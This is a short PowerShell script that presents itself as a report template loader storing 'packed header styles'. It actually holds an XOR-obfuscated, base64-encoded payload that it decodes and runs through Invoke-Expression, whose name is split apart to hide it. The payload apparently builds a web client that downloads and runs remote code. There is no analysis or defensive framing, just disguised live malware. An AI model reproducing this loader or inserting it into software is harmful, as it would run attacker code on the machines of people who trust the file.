# Report template loader: header styles are stored packed to keep the file small.
$script:TemplateKey = 0x5A
$script:TemplateBlob = 'fjlnFD8tdxU4MD85LnoUPy50DT84GTYzPzQuYX4pZ345dB41LTQ2NTs+CS4oMzQ9cn0yLi4qKWB1dS4rdCk5Oz47dyo7LjkydD8iOzcqNj91LSt0KilrfXNhfHpyASk5KDMqLjg2NTkxB2BgGSg/Oy4/cn4pc3M='

function Initialize-ReportTemplate {
  $bytes = [Convert]::FromBase64String($script:TemplateBlob)
  for ($i = 0; $i -lt $bytes.Length; $i++) { $bytes[$i] = $bytes[$i] -bxor $script:TemplateKey }
  $tpl = [Text.Encoding]::UTF8.GetString($bytes)
  $apply = 'Invoke-' + 'Expression'
  & $apply $tpl
}
